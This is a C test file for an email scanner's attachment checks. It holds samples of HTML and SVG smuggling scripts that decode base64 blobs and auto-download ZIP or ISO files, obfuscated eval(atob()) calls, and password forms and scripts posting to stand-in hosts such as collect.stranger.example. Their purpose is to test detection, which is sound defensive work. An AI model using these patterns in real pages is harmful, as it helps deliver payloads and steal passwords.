/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Attached pages, looked into by the real scanner: such that put a file together or ask for a password, and
 * such as people send each other. */
#include "tests/agent/scanner/support.h"

#include <string.h>

#include "agent/core/trait-codes.h"

#define LONG_DATA "%LONG%" /* replaced by base64 of nothing known */
#define ZIP_DATA "%ZIP%"   /* of the beginning of a ZIP file */
#define PNG_DATA "%PNG%"
#define XLSX_DATA "%XLSX%"

/* code NULL: nothing remarkable. */
static const struct
{
  const char *name, *content, *code, *detail;
} pages[] = {
  { "a.html",
    "<html><script>var d='" ZIP_DATA "';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);"
    "var "
    "a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='order.zip';a.click();</script>",
    SEK_TRAIT_SMUGGLING, "order.zip" },
  { "a.html",
    "<html><body onload=\"navigator.msSaveOrOpenBlob(new Blob([atob('" LONG_DATA "')]), 'a.iso')\">",
    SEK_TRAIT_SMUGGLING, "a.iso" },
  { "a.html",
    "<script>var f=window['at'+'ob'];var u=URL['createObj'+'ectURL'](new Blob([f('" LONG_DATA
    "')]))</script>",
    SEK_TRAIT_SMUGGLING, NULL },
  { "a.html",
    "<script>var f=window['\\x61\\x74ob'];var u=URL['create\\u004fbjectURL'](new Blob([f('" LONG_DATA
    "')]))</script>",
    SEK_TRAIT_SMUGGLING, NULL },
  { "a.html", "<html><div id=d hidden>" ZIP_DATA "</div><script>var b=new Blob([atob(d.innerText)])</script>",
    SEK_TRAIT_SMUGGLING, "zip" },
  { "a.html", "<script>var r=/'/; var b=new Blob([atob('" ZIP_DATA "')]); URL.createObjectURL(b)</script>",
    SEK_TRAIT_SMUGGLING, NULL },
  { "a.htm", "<html><script>document.write(unescape('" LONG_DATA "'))</script>", SEK_TRAIT_SMUGGLING, NULL },
  { "a.htm", "<html><script>eval(atob(\"" LONG_DATA "\"))</script>", SEK_TRAIT_SMUGGLING, NULL },
  { "a.html", "<a href='data:application/zip;base64," ZIP_DATA "' download='order.zip'>Open</a>",
    SEK_TRAIT_SMUGGLING, "order.zip" },
  { "a.svg",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[var b=new "
    "Blob([atob('" ZIP_DATA "')]);location=URL.createObjectURL(b)]]></script></svg>",
    SEK_TRAIT_SMUGGLING, NULL },
  { "a.html",
    "<form action='https://collect.stranger.example/p' method=post><input name=u><input type=password "
    "name=p></form>",
    SEK_TRAIT_HTML_FORM, "https://collect.stranger.example/p" },
  { "a.html", "<form action='https://stranger.example/p'><input type=text placeholder='パスワード'></form>",
    SEK_TRAIT_HTML_FORM, NULL },
  { "a.html",
    "<input id=e><input type=password "
    "id=p><script>fetch('https://stranger.example/g',{method:'POST'})</script>",
    SEK_TRAIT_HTML_FORM, "https://stranger.example/g" },
  { "a.html",
    "<input type=password id=p><script>var "
    "u='aHR0cHM6Ly9zdHJhbmdlci5leGFtcGxlL2c=';$.ajax({url:atob(u)})</script>",
    SEK_TRAIT_HTML_FORM, "https://stranger.example/g" },

  { "a.html",
    "<script>var b=new "
    "Blob([atob('UEsDBAoAAAAAAGFiY2Rl')]);a.href=URL.createObjectURL(b);a.download='i.zip'</script>",
    SEK_TRAIT_SMUGGLING, "i.zip" },
  { "a.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>var u=URL.createObjectURL(new "
    "Blob([atob('YWI=')]))</script></svg>",
    SEK_TRAIT_SMUGGLING, NULL },

  { "a.html", "<meta http-equiv=refresh content=\"0; URL='https://stranger.example/x'\">Please wait",
    SEK_TRAIT_REDIRECT, "https://stranger.example/x" },
  { "a.html", "<script>window.location.href=atob('aHR0cHM6Ly9zdHJhbmdlci5leGFtcGxlL2c=')</script>",
    SEK_TRAIT_REDIRECT, "https://stranger.example/g" },
  { "a.svg",
    "<svg "
    "xmlns='http://www.w3.org/2000/svg'><script>location.replace('https://stranger.example/')</script></svg>",
    SEK_TRAIT_REDIRECT, "https://stranger.example/" },
  { "a.html", "<iframe src='https://stranger.example/login' width='100%'></iframe>", SEK_TRAIT_REDIRECT,
    NULL },
  { "a.html", "<meta http-equiv=refresh content='0; url=manual/index.html'>", NULL, NULL },
  { "a.html", "<meta http-equiv=refresh content='300'>Table", NULL, NULL },

  { "a.html", "<html><body><h1>Report</h1><table><tr><td>1</td></tr></table></body></html>", NULL, NULL },
  { "a.html", "<html><img src='data:image/png;base64," PNG_DATA "'><script>var x=1</script>", NULL, NULL },
  { "a.html",
    "<script>function csv(){var b=new Blob(['a,b\\n1,2']);var a=document.createElement('a');"
    "a.href=URL.createObjectURL(b);a.download='table.csv';a.click()}</script><button "
    "onclick='csv()'>CSV</button>",
    NULL, NULL },
  { "a.html",
    "<script>var p='" PNG_DATA "';var b=new Blob([Uint8Array.from(atob(p),c=>c.charCodeAt(0))]);"
    "img.src=URL.createObjectURL(b)</script>",
    NULL, NULL },
  { "a.html", "<a href='data:application/octet-stream;base64," XLSX_DATA "' download='t.xlsx'>Excel</a>",
    NULL, NULL },
  { "a.html", "<script>var data='" LONG_DATA "';draw(atob(data))</script>", NULL, NULL },
  { "a.html", "<pre>eval(atob(x)); URL.createObjectURL(new Blob([atob(y)])); a.download='x.zip'</pre>", NULL,
    NULL },
  { "a.html", "<form action='https://kaede.example/search'><input name=q></form>", NULL, NULL },
  { "a.html", "<form action='/login'><input type=password></form>", NULL, NULL },
  { "a.html", "<form><input type=password><script>decrypt(document.forms[0])</script></form>", NULL, NULL },
  { "a.html",
    "<form action='https://stranger.example/q'><input name=name><textarea name=t></textarea></form>", NULL,
    NULL },
  { "a.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://kaede.example/'><text>x</text></a></svg>", NULL,
    NULL },
  { "a.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>function zoom(e){e.target.remove()}</script></svg>",
    NULL, NULL },
  { "a.txt", "<script>eval(atob('" ZIP_DATA "'))", NULL, NULL },
  { "notes.txt", "Use eval(atob(x)).", NULL, NULL },
};

static void
replace (GString *text, const char *mark, const void *head, gsize length)
{
  guint8 bytes[600] = { 0 };
  for (gsize i = 0; i < sizeof bytes; i++)
    bytes[i] = (guint8) (i * 7 + 1);
  memcpy (bytes, head, length);
  g_autofree char *data = g_base64_encode (bytes, sizeof bytes);
  g_string_replace (text, mark, data, 0);
}

static GString *
fill_in (const char *content)
{
  GString *text = g_string_new (content);
  replace (text, LONG_DATA, "\x01", 1);
  replace (text, ZIP_DATA, "PK\x03\x04\x14\x00", 6);
  replace (text, PNG_DATA, "\x89PNG\r\n\x1a\n", 8);
  replace (text, XLSX_DATA, "PK\x03\x04\x14\x00\x06\x00\x08\x00[Content_Types].xml", 29);
  return text;
}

static void
assert_trait (SekScanner *scanner,
              const char *name,
              const char *bytes,
              gsize length,
              const char *code,
              const char *detail)
{
  g_autoptr (GString) mail = test_mail_with_attachment (name, bytes, length);
  g_autoptr (SekFacts) facts = test_scan (scanner, mail->str, mail->len);
  const GPtrArray *traits = test_attachment (facts, 0)->traits;
  if (code == NULL)
    {
      g_assert_null (sek_traits_find (traits, SEK_TRAIT_SMUGGLING));
      g_assert_null (sek_traits_find (traits, SEK_TRAIT_HTML_FORM));
      g_assert_null (sek_traits_find (traits, SEK_TRAIT_REDIRECT));
      return;
    }
  const SekTrait *trait = sek_traits_find (traits, code);
  g_assert_nonnull (trait);
  if (detail != NULL)
    g_assert_cmpstr (trait->detail, ==, detail);
}

static void
test_pages (void)
{
  g_autoptr (SekScanner) scanner = sek_scanner_new (NULL);
  for (gsize i = 0; i < G_N_ELEMENTS (pages); i++)
    {
      g_test_message ("%" G_GSIZE_FORMAT " %s", i, pages[i].content);
      g_autoptr (GString) text = fill_in (pages[i].content);
      /* A text file that begins with <script> is opened as text. */
      if (g_str_has_suffix (pages[i].name, ".txt"))
        g_string_prepend (text, "Hello, ");
      assert_trait (scanner, pages[i].name, text->str, text->len, pages[i].code, pages[i].detail);
    }
}

static void
test_wide (void)
{
  g_autoptr (SekScanner) scanner = sek_scanner_new (NULL);
  g_autoptr (GString) text = fill_in (pages[0].content);
  gsize length = 0;
  g_autofree char *wide = g_convert (text->str, -1, "UTF-16", "UTF-8", NULL, &length, NULL);
  assert_trait (scanner, "a.html", wide, length, SEK_TRAIT_SMUGGLING, "order.zip");
}

/* Twelve megabytes of data in front of what hands them over. */
static void
test_large (void)
{
  g_autoptr (SekScanner) scanner = sek_scanner_new (NULL);
  g_autofree char *data = g_strnfill (12 * 1024 * 1024, 'A');
  memcpy (data, "UEsDBBQA", 8);
  g_autofree char *page = g_strconcat ("<html><script>var d='", data,
                                       "';var u=URL.createObjectURL(new Blob([atob(d)]));</script>", NULL);
  assert_trait (scanner, "a.html", page, strlen (page), SEK_TRAIT_SMUGGLING, "zip");
}

/* Every beginning of a page gives an answer, and so does one that nests without end. */
static void
test_broken (void)
{
  g_autoptr (SekScanner) scanner = sek_scanner_new (NULL);
  g_autoptr (GString) text = fill_in (pages[9].content);
  for (gsize length = 1; length < text->len; length += 53)
    {
      g_autoptr (GString) mail = test_mail_with_attachment ("a.svg", text->str, length);
      g_autoptr (SekFacts) facts = test_scan (scanner, mail->str, mail->len);
      g_assert_cmpuint (facts->attachments->len, ==, 1);
    }
  g_autoptr (GString) deep = g_string_new ("<html>");
  for (guint i = 0; i < 200000; i++)
    g_string_append (deep, "<b><div>'");
  assert_trait (scanner, "a.html", deep->str, deep->len, NULL, NULL);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/scanner/page/pages", test_pages);
  g_test_add_func ("/scanner/page/wide", test_wide);
  g_test_add_func ("/scanner/page/large", test_large);
  g_test_add_func ("/scanner/page/broken", test_broken);
  return g_test_run ();
}
